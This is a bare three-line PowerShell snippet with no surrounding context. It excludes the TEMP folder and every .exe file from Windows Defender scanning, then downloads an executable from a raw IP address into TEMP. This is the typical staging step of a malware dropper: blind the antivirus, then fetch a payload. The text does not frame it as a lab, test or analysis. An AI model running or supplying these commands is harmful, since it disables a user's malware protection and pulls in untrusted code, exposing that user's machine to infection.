Add-MpPreference -ExclusionPath "$env:TEMP" -Force
Add-MpPreference -ExclusionExtension ".exe"
Invoke-WebRequest http://198.51.100.7/u.exe -OutFile "$env:TEMP\u.exe"
